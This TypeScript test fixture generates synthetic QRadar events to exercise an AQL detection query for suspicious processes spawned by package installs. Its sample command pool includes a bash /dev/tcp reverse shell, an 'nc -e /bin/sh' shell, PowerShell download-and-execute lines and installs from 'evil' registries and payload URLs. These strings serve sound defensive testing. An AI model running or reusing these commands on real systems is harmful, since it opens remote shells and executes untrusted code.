/**
 * Generated QRadar-shaped events full of the edge cases the seed AQL must get right:
 * NULL (absent key) in every column, QID-name case variants and key spellings, near-miss
 * substrings (`%gem%` in ManagementAgent.exe), QID names in two arms (`Process Create / Network Connect`), window boundaries, events after NOW, more
 * matches than the LIMIT, commas/quotes/newlines/unicode and LIKE metacharacters in values.
 */
import { prng } from '../helpers/prng.js';

const QID_NAMES = [
  'Process Create', 'Sysmon Process Create', 'process create', 'PROCESS CREATE', 'Process Created',
  'Network Connection Detected', 'Network Connect', 'network connection', 'File Created', 'FileCreate',
  'Registry value set', 'Process Terminated',
  // In two arms' QIDs: the AQL's CASE gives arm 2 when arm 1 does not match.
  'Process Create / Network Connect', 'Network Connect after Process Create',
];
const QID_KEYS = ['qidname', 'QIDNAME(qid)', 'Event Name'];
const PARENTS = [
  'C:\\Program Files\\nodejs\\node.exe', 'C:\\Program Files\\nodejs\\npm.cmd', 'NODE.EXE', '/usr/bin/python3',
  'C:\\Python311\\python.exe', 'pip.exe', 'yarn.cmd', 'pnpm.exe', 'C:\\Ruby\\bin\\gem.bat', 'cargo.exe',
  'dotnet.exe', 'nuget.exe', 'C:\\Windows\\ManagementAgent.exe', 'explorer.exe', 'C:\\Windows\\System32\\svchost.exe',
  'devenv.exe', 'go.exe', '',
];
const CHILDREN = [
  'C:\\Windows\\System32\\cmd.exe', 'powershell.exe', 'PWSH.EXE', 'wscript.exe', 'cscript.exe', 'mshta.exe',
  'rundll32.exe', 'regsvr32.exe', 'certutil.exe', 'bitsadmin.exe', 'curl.exe', 'wget.exe', '/bin/sh', '/usr/bin/curl',
  'notepad.exe', 'node.exe', 'C:\\Program Files\\Go\\bin\\go.exe', 'python.exe', 'npm', 'pip3', '',
];
const COMMANDS = [
  'cmd.exe /d /s /c "node install.js"', 'whoami', 'bash -c "bash -i >& /dev/tcp/10.0.0.1/443 0>&1"',
  'echo aGk= | base64 -d | sh', 'powershell -c "IEX(New-Object Net.WebClient).DownloadString(\'http://x/a\')"',
  'powershell Invoke-Expression $a', 'iex(iwr http://evil)', 'npm install --registry http://127.0.0.1:4873',
  'npm install --REGISTRY HTTP://evil', 'sh -i', 'nc -e /bin/sh 1.2.3.4 9', 'python -c "import os"',
  'node-gyp rebuild', 'a,b,"quoted",c', 'line1\nline2\r\nline3', 'ünïcødé 日本語 — “smart” quotes',
  '100% of _under_score', '', 'calc.exe',
];
const PARENT_COMMANDS = [
  'node "C:\\app\\node_modules\\evil\\install.js"', 'npm run postinstall', 'sh -c preinstall', 'node-pre-gyp install',
  'NPM RUN POSTINSTALL', 'explorer.exe', '',
];
const URLS = [
  'https://registry.npmjs.org/left-pad', 'https://registry.npmjs.org.evil.example/x', 'http://127.0.0.1:4873/pkg',
  'https://pypi.org/simple/requests/', 'https://FILES.PYTHONHOSTED.ORG/packages/x', 'https://rubygems.org/gems/rails',
  'https://static.crates.io/crates/serde', 'https://api.nuget.org/v3/index.json', 'https://repo.yarnpkg.com/x',
  'https://pkg.go.dev/x', 'https://proxy.golang.org/x', 'https://evil.example/payload.sh', '',
];
const FILE_PATHS = [
  '/repo/.github/workflows/ci.yml', 'C:\\repo\\.github\\workflows\\ci.yml', 'C:\\repo\\.GITHUB/WORKFLOWS\\x.yml',
  '/repo/.gitlab-ci.yml', '/repo/Jenkinsfile', '/repo/.circleci/config.yml', '/repo/azure-pipelines.yml',
  '/repo/.travis.yml', 'C:\\Users\\dev\\AppData\\Local\\Temp\\argus-npm-test.txt', '/repo/README.md', '',
];
const HOSTS = ['WS-01', 'build-agent-7', 'dev,laptop', 'host "quoted"', 'サーバー'];
const USERS = ['alice', 'CORP\\bob', 'svc_ci', 'root', ''];

export const NOW = Date.parse('2026-11-27T12:00:00Z');
const DAY = 86_400_000;

export type QRadarEvent = Record<string, string | number | null>;

export function generateEvents(count: number, seed = 1195001): QRadarEvent[] {
  const rand = prng(seed);
  const pick = <T>(xs: T[]): T => xs[Math.floor(rand() * xs.length)]!;
  // Each column is absent (NULL), JSON null or a value, so NULL logic is exercised everywhere.
  const maybe = (event: QRadarEvent, key: string, pool: string[]) => {
    const r = rand();
    if (r < 0.12) return;
    event[key] = r < 0.16 ? null : pick(pool);
  };
  const boundaryTimes = [NOW - DAY, NOW - DAY + 1, NOW - DAY - 1, NOW, NOW + 1, NOW + 3_600_000];
  const events: QRadarEvent[] = [];
  for (let i = 0; i < count; i += 1) {
    const r = rand();
    // Many events share a second (and some the same millisecond) so ordering ties are exercised.
    const starttime = r < 0.1 ? pick(boundaryTimes) : NOW - Math.floor(rand() * 30 * 3_600_000) + Math.floor(rand() * 2) * 7_200_000;
    const event: QRadarEvent = { starttime };
    if (rand() > 0.05) event[pick(QID_KEYS)] = pick(QID_NAMES);
    maybe(event, 'devicehostname', HOSTS);
    maybe(event, 'username', USERS);
    maybe(event, 'sourceip', ['10.0.0.5', '192.168.1.20', '::1']);
    maybe(event, 'Process Name', CHILDREN);
    maybe(event, 'Command', COMMANDS);
    maybe(event, 'Parent Process Name', PARENTS);
    maybe(event, 'Parent Command', PARENT_COMMANDS);
    if (rand() < 0.5) maybe(event, 'URL', URLS);
    if (rand() < 0.4) maybe(event, 'File Path', FILE_PATHS);
    events.push(event);
  }
  return events;
}
